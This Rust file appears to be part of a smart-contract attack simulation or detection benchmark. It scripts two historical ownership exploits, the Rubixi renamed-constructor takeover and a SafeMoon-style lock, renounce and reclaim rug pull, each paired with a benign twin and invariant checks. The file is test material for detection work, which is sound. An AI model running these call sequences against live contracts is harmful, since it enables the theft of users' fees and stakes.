//! An owner who should not be one.

use anyhow::{Result, ensure};
use case::Planned;
use facts::{Address, U256};

use super::super::{
    declare::{Invariant, slot_holds},
    props::{allow, give, held, one, parts, token, units, whom},
};
use crate::{Scenario, Stage, args, ether};

pub(super) const RENAMED: Scenario = Scenario {
    id: "access/ownership-transfer/renamed-constructor",
    about: "what was the constructor before a contract was renamed is a function: a stranger calls it and collects the fees \
            (Rubixi, 2016)",
    attack: renamed,
    twin: renamed_twin,
};

pub(super) const UNLOCKED_AGAIN: Scenario = Scenario {
    id: "access/ownership-transfer/unlocked-again",
    about: "the founder of a farm locks, unlocks and renounces its ownership, takes it back from nobody weeks later, and \
            leaves with the stakes (the lock of SafeMoon and its copies)",
    attack: unlocked,
    twin: unlocked_twin,
};

const KIND: &str = "access/ownership-transfer";

fn pyramid(stage: &mut Stage<'_>) -> Result<(Address, Address)> {
    let creator = stage.actor("creator");
    let pyramid = stage.deploy(creator, "Pyramid", args![])?;
    stage.call(creator, pyramid, "DynamicPyramid()", args![]);
    stage.protect(pyramid, "pyramid");
    stage.mine()?;
    for (n, coins) in [12u64, 40, 33, 150, 75, 90].into_iter().enumerate() {
        let player = stage.actor(&format!("player {n}"));
        let amount = stage.amount(ether(coins));
        stage.transfer(player, pyramid, amount);
        stage.pass(1)?;
        if n == 2 {
            stage.call(creator, pyramid, "collectAllFees()", args![]);
        }
    }
    Ok((creator, pyramid))
}

fn renamed(stage: &mut Stage<'_>) -> Result<()> {
    let (creator, pyramid) = pyramid(stage)?;
    slot_holds(stage, "creator-stays", KIND, pyramid, "5", &[creator]);
    let fees = one(stage, pyramid, "currentFees()", args![])?;
    let before = stage.balance(pyramid)?;
    let thief = stage.actor("thief");
    stage.attack(|stage| {
        stage.call(thief, pyramid, "DynamicPyramid()", args![]);
        Ok(())
    })?;
    stage.between_parts()?;
    stage.attack(|stage| {
        stage.call(thief, pyramid, "collectAllFees()", args![]);
        Ok(())
    })?;
    stage.mine()?;
    ensure!(fees > stage.amount(ether(30)) && before - stage.balance(pyramid)? == fees, "the fees were not taken");
    Ok(())
}

fn renamed_twin(stage: &mut Stage<'_>) -> Result<()> {
    let (creator, pyramid) = pyramid(stage)?;
    // The creator sells the scheme; the buyer collects what has come together.
    let buyer = stage.actor("buyer");
    slot_holds(stage, "creator-stays", KIND, pyramid, "5", &[creator, buyer]);
    let price = stage.amount(ether(60));
    stage.transfer(buyer, creator, price);
    stage.announce("the scheme is sold", &[creator], &[(pyramid, Planned::Owner(buyer))])?;
    stage.call(creator, pyramid, "changeOwner(address)", args![buyer]);
    stage.between_parts()?;
    stage.call(buyer, pyramid, "collectAllFees()", args![]);
    stage.mine()?;
    ensure!(one(stage, pyramid, "currentFees()", args![])?.is_zero(), "nothing was collected");
    Ok(())
}

struct Farm {
    founder: Address,
    at: Address,
    coin: Address,
}

fn farm(stage: &mut Stage<'_>) -> Result<Farm> {
    let founder = stage.actor("founder");
    let coin = token(stage, founder, "MOON", 9)?;
    let at = stage.deploy(founder, "LockedFarm", args![coin])?;
    stage.protect(at, "farm");
    let rewards = stage.amount(units(900_000, 9));
    give(stage, founder, coin, at, rewards);
    stage.mine()?;
    for (name, whole) in [("flo", 1_500_000), ("gus", 820_000), ("hal", 3_333_333), ("ivy", 270_000)] {
        let farmer = stage.actor(name);
        let amount = stage.amount(units(whole, 9));
        give(stage, founder, coin, farmer, amount);
        allow(stage, farmer, coin, at);
        stage.call(farmer, at, "deposit(uint256)", args![amount]);
        stage.pass(1)?;
    }
    Ok(Farm { founder, at, coin })
}

/// The farm has what it owes.
fn covered(stage: &mut Stage<'_>, farm: Address) {
    let asks = Some("call = 'shortfall()'".to_owned());
    let broken = "observed.value != null && observed.value > 0".to_owned();
    Invariant { id: "stakes-are-covered", kind: KIND, on: "observed", broken, about: farm, asks }.declare(stage);
}

fn lock(stage: &mut Stage<'_>, farm: &Farm) -> Result<()> {
    stage.call(farm.founder, farm.at, "lock(uint256)", args![3_600u64]);
    stage.pass(1)?;
    stage.wait(7_200);
    stage.call(farm.founder, farm.at, "unlock()", args![]);
    stage.mine()
}

fn unlocked(stage: &mut Stage<'_>) -> Result<()> {
    let farm = farm(stage)?;
    let Farm { founder, at, coin } = farm;
    covered(stage, at);
    stage.preparing(|stage| {
        lock(stage, &farm)?;
        stage.call(founder, at, "renounceOwnership()", args![]);
        stage.mine()
    })?;
    ensure!(whom(stage, at, "owner()", args![])? == Address::ZERO, "not renounced");
    stage.wait(20 * 86_400);
    stage.pass(3)?;
    stage.attack(|stage| {
        stage.call(founder, at, "unlock()", args![]);
        Ok(())
    })?;
    stage.between_parts()?;
    let all = held(stage, coin, at)?;
    let thirds = parts(stage, vec![all / U256::from(3); 3]);
    for part in thirds {
        let amount: U256 = part.into_iter().sum();
        stage.attack(|stage| {
            stage.call(founder, at, "rescueTokens(address,uint256)", args![coin, amount]);
            Ok(())
        })?;
        stage.between_parts()?;
    }
    let staked = one(stage, at, "staked()", args![])?;
    ensure!(held(stage, coin, at)? * U256::from(100) < staked, "the stakes are still there");
    Ok(())
}

fn unlocked_twin(stage: &mut Stage<'_>) -> Result<()> {
    let farm = farm(stage)?;
    let Farm { founder, at, coin } = farm;
    covered(stage, at);
    // Announced: locked for a while, then the founder takes the rewards that nobody earned, and farmers end the season.
    let planned = [Address::ZERO, founder].map(|owner| (at, Planned::Owner(owner)));
    stage.announce("locked for two hours", &[founder], &planned)?;
    lock(stage, &farm)?;
    stage.pass(2)?;
    stage.call(founder, at, "collectSurplus()", args![]);
    stage.between_parts()?;
    for name in ["hal", "flo", "gus"] {
        let farmer = stage.actor(name);
        let stake = one(stage, at, "stakeOf(address)", args![farmer])?;
        stage.call(farmer, at, "withdraw(uint256)", args![stake]);
        stage.between_parts()?;
    }
    ensure!(held(stage, coin, founder)? == stage.amount(units(900_000, 9)), "the surplus was not collected");
    ensure!(one(stage, at, "staked()", args![])? == stage.amount(units(270_000, 9)), "someone did not get out");
    Ok(())
}
